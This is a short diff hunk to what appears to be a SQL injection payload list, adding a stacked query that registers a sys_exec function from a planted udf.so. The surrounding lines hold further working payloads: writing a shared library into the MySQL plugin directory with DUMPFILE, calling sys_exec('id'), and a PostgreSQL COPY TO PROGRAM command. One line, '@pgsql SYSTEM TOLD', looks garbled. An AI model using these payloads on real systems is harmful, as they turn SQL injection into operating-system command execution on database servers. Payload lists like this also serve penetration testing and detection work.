@@ -419,6 +419,8 @@ SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'
 
 SELECT * FROM t WHERE id=1 AND sys_exec('id')
 
+SELECT * FROM t WHERE id=1; CREATE FUNCTION sys_exec RETURNS INT SONAME 'udf.so'
+
 @pgsql SYSTEM TOLD
 SELECT * FROM t WHERE id=1; COPY t TO PROGRAM 'id'
 
